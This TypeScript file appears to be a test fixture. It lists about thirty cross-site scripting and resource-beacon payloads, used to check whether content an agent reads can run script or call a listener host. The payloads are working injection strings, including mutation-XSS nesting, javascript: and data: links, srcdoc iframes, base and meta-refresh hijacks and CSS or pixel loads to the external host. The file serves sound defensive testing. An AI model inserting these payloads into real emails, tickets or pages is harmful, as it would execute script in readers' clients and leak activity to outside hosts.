/**
 * What people send to have a script run where an agent reads it. Each calls `ran('name')`, which the page has, or asks
 * `elsewhere`, which hears it. By what is told of mail clients and help desks: OWASP's list, mutation (mXSS), namespaces,
 * markdown's links, styles, and frames.
 */
export const payloads = (elsewhere: string): Record<string, string> => ({
  script: `<script>ran('script')</script>`,
  src: `<script src="${elsewhere}/script.js"></script>`,
  image: `<img src=x onerror="ran('image')">`,
  pixel: `<img src="${elsewhere}/pixel.gif" width=1 height=1>`,
  srcset: `<img srcset="${elsewhere}/set.png 1x" src="${elsewhere}/one.png">`,
  svg: `<svg onload="ran('svg')"><animate onbegin="ran('animate')" attributeName=x dur=1s></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran('math')&gt;">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=ran('noscript')>">`,
  template: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran('template')>`,
  details: `<details open ontoggle="ran('details')">x</details>`,
  input: `<input autofocus onfocus="ran('input')">`,
  link: `<a href="javascript:ran('link')">open the invoice</a>`,
  entity: `<a href="jav&#x09;ascript:ran('entity')">open the receipt</a>`,
  data: `<a href="data:text/html,<script>parent.ran('data')</script>">open the form</a>`,
  frame: `<iframe srcdoc="<script>parent.ran('frame')</script>"></iframe><iframe src="${elsewhere}/frame"></iframe>`,
  object: `<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">`,
  base: `<base href="${elsewhere}/"><link rel=stylesheet href="${elsewhere}/style.css"><link rel=prefetch href="${elsewhere}/prefetch">`,
  meta: `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`,
  style: `<style>@import url(${elsewhere}/import.css);body{background:url(${elsewhere}/body.png)}</style>`,
  inline: `<div style="background-image:url(${elsewhere}/inline.png)">x</div>`,
  form: `<form action="${elsewhere}/form"><button formaction="javascript:ran('form')">Sign in again</button></form>`,
  video: `<video src="${elsewhere}/video.mp4" poster="${elsewhere}/poster.png" onerror="ran('video')" autoplay></video>`,
  breakout: `"><img src=x onerror=ran('breakout')><"`,
  closing: `</title></textarea></script></style></template></noscript><img src=x onerror=ran('closing')>`,
  interpolation: `{{constructor.constructor("ran('interpolation')")()}}\${ran('interpolation')}`,
  markdown: `[a](javascript:ran('markdown')) ![b](${elsewhere}/markdown.png) <img src=x onerror=ran('markdown2')>`,
  unicode: `\u202e<img src=x onerror=ran('unicode')>\u2028<script>ran('unicode2')</script>`,
})
